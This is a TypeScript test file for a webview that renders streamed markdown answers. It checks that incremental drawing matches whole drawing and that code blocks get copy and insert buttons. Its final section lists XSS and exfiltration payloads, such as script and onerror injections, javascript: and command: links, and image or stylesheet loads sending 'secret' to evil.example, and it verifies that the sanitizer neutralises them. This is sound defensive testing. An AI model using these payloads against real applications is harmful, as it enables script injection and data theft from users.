// @vitest-environment jsdom
import fc from "fast-check";
import { describe, expect, it } from "vitest";
import { createAnswerRenderer } from "../../src/webview/answer-renderer.ts";
import { createCodeBlocks } from "../../src/webview/code-block.ts";
import { createHighlight } from "../../src/webview/highlight.ts";
import { createStrings } from "../../src/webview/strings.ts";

const actions: { action: string; code: string; language: string }[] = [];
const codeBlocks = createCodeBlocks({
  strings: createStrings({}),
  highlight: createHighlight(),
  run: (action, code, language) => actions.push({ action, code, language }),
});

/** Draws after every piece, as the page does frame by frame. */
function drawn(pieces: readonly string[]): HTMLElement {
  const container = document.createElement("div");
  const renderer = createAnswerRenderer(container, codeBlocks);
  for (const piece of pieces) {
    renderer.append(piece);
    renderer.draw();
  }
  renderer.finish();
  return container;
}

const blocks = [
  "A paragraph with **bold**, `code` and [a link](https://example.com/x?y=1).",
  "# Heading",
  "Setext\n---",
  "- one\n- two\n\n- three\n  1. inner\n\n     text",
  "1. first\n2. second",
  "> quoted\nlazy",
  "| a | b |\n|---|:-:|\n| 1 | `x\\|y` |",
  "```ts\nconst a = 1;\n\nif (a) {}\n```",
  "~~~\nplain ``` inside\n~~~",
  "````md\n```js\nnested\n```\n````",
  "   ```py\n   indented fence\n   ```",
  "    indented code\n    more",
  "- item\n  ```sh\n  in a list\n  ```\n- next",
  "<div>\nhtml <b>here</b>\n</div>",
  "***",
  "中文段落，带有 **粗体** 和 `代码`。",
  "line one  \nline two\\\nline three",
  "```",
  "text then\n```js\nfence after text\n```",
];

describe("an answer drawn piece by piece", { timeout: 60_000 }, () => {
  it("looks like the same answer drawn at once, however it is split", () => {
    const answers = fc
      .tuple(
        fc.array(fc.constantFrom(...blocks), { minLength: 1, maxLength: 6 }),
        fc.constantFrom("\n\n", "\n", "\r\n\r\n"),
      )
      .map(([parts, glue]) => parts.join(glue));
    fc.assert(
      fc.property(
        answers,
        fc.array(fc.integer({ min: 1, max: 40 }), { minLength: 1, maxLength: 60 }),
        (answer, sizes) => {
          const pieces: string[] = [];
          for (let at = 0, index = 0; at < answer.length; index++) {
            const size = sizes[index % sizes.length] ?? 1;
            pieces.push(answer.slice(at, at + size));
            at += size;
          }
          expect(drawn(pieces).innerHTML).toBe(drawn([answer]).innerHTML);
        },
      ),
      { numRuns: 200, seed: 20261123 },
    );
  });

  it("loses nothing of the text", () => {
    const answer = blocks.join("\n\n");
    const text = drawn([answer]).textContent ?? "";
    for (const word of [
      "bold",
      "Setext",
      "three",
      "quoted",
      "nested",
      "in a list",
      "html <b>here</b>",
      "粗体",
      "line three",
    ]) {
      expect(text).toContain(word);
    }
  });

  it("shows half a code block while it is written, and gives it its buttons when it is whole", () => {
    const container = document.createElement("div");
    const renderer = createAnswerRenderer(container, codeBlocks);
    renderer.append("```ts\nconst a = 1;\nconst b");
    renderer.draw();
    expect([...container.querySelectorAll("code > span")].map((line) => line.textContent)).toEqual([
      "const a = 1;",
      "const b",
    ]);
    expect(container.querySelectorAll("button")).toHaveLength(0);
    renderer.append(" = 2;\n```\n");
    renderer.draw();
    expect(container.querySelector("pre")?.textContent).toBe("const a = 1;\nconst b = 2;");
    expect([...container.querySelectorAll("button")].map((each) => each.title)).toEqual([
      "Copy code",
      "Insert at cursor",
      "Apply as a change",
    ]);
    container.querySelector("button")?.click();
    expect(actions.at(-1)).toEqual({ action: "copy", code: "const a = 1;\nconst b = 2;", language: "ts" });
    expect(container.querySelector(".hljs-keyword")).not.toBeNull();
  });

  it("colours long code piece by piece when there is time, and loses none of it", async () => {
    const code = Array.from({ length: 400 }, (_, index) => `const value${index} = "<b>" + a\u200b; // &amp;`).join(
      "\n",
    );
    const container = drawn([`\`\`\`ts\n${code.slice(0, 5000)}`, `${code.slice(5000)}\n\`\`\`\n`]);
    const shown = code.replaceAll("\u200b", "U+200B");
    expect(container.querySelector("code")?.textContent).toBe(shown);
    expect(container.querySelector(".hljs-keyword")).toBeNull();
    await expect.poll(() => container.querySelectorAll(".hljs-keyword").length).toBe(400);
    expect(container.querySelector("code")?.textContent).toBe(shown);
    expect(container.querySelectorAll("b")).toHaveLength(0);
    container.querySelector("button")?.click();
    expect(actions.at(-1)?.code).toBe(code);
  });

  it("does not draw finished blocks again", () => {
    const container = document.createElement("div");
    const renderer = createAnswerRenderer(container, codeBlocks);
    renderer.append("First paragraph.\n\nSecond one, longer than any marker");
    renderer.draw();
    const first = container.querySelector("p");
    renderer.append(" grows.\n\nThird");
    renderer.draw();
    expect(container.querySelector("p")).toBe(first);
    expect(container.querySelectorAll("p")).toHaveLength(3);
  });
});

const attacks = [
  "<script>window.hit = 1</script>",
  '<img src=x onerror="window.hit = 1">',
  '<svg onload="window.hit=1"><circle /></svg>',
  '<iframe src="https://evil.example"></iframe>',
  '<a href="javascript:window.hit=1">x</a>',
  "[x](javascript:window.hit=1)",
  "[x](JaVaScRiPt:window.hit=1)",
  "[x](vbscript:msgbox)",
  "[x](data:text/html,<script>window.hit=1</script>)",
  "[x](command:workbench.action.terminal.new)",
  "[x](vscode://publisher.extension)",
  "![leak](https://evil.example/?q=secret)",
  "![leak][r]\n\n[r]: https://evil.example/?q=secret",
  '<style>@import "https://evil.example/x.css"</style>',
  '<form action="https://evil.example"><input name=q></form>',
  '<math><mtext><table><mglyph><style><img src=x onerror="window.hit=1">',
  '<div style="background:url(https://evil.example)">x</div>',
  "```html\n<img src=x onerror=alert(1)>\n```",
  "| <img src=x onerror=alert(1)> | b |\n|---|---|\n| <script>1</script> | [y](javascript:1) |",
  "<https://evil.example/%22onmouseover=%22x>",
  '[a"onclick="window.hit=1](https://x.example/"onclick="y)',
];
const allowed = new Set(
  "A B BLOCKQUOTE BR BUTTON CODE DEL DIV EM H1 H2 H3 H4 H5 H6 HR LI OL P PRE SPAN STRONG TABLE TBODY TD TH THEAD TR UL I".split(
    " ",
  ),
);

describe("hostile answers", { timeout: 60_000 }, () => {
  it("become text or harmless elements, wherever they are split", () => {
    for (const attack of attacks) {
      for (let at = 0; at <= attack.length; at++) {
        const container = drawn([`Before. ${attack.slice(0, at)}`, `${attack.slice(at)} after.\n`]);
        for (const node of container.querySelectorAll("*")) {
          expect(allowed, `${attack} made ${node.tagName}`).toContain(node.tagName);
          for (const { name, value } of node.attributes) {
            expect(["href", "src", "style", "action", "srcdoc"], attack).not.toContain(name);
            expect(name.startsWith("on"), `${attack} kept ${name}`).toBe(false);
            if (name === "data-href") expect(value, attack).toMatch(/^(?:https?|mailto):/i);
          }
        }
      }
    }
    expect(Reflect.get(window, "hit")).toBeUndefined();
  });

  it("cannot make an image load: its address is shown as text", () => {
    const container = drawn(["See ![chart](https://evil.example/?q=secret)"]);
    expect(container.querySelector("img")).toBeNull();
    expect(container.textContent).toContain("[chart: https://evil.example/?q=secret]");
  });

  it("cannot hide characters that turn text around or take no width", () => {
    const container = drawn(["pay\u202e321\u202c and zero\u200bwidth\n\n```js\nif (admin\u2066) {}\n```\n"]);
    expect([...container.querySelectorAll(".hidden-character")].map((mark) => mark.textContent)).toEqual([
      "U+202E",
      "U+202C",
      "U+200B",
      "U+2066",
    ]);
    expect(drawn(["family 👨‍👩‍👧 and flag 🏳️‍🌈"]).querySelector(".hidden-character")).toBeNull();
  });
});
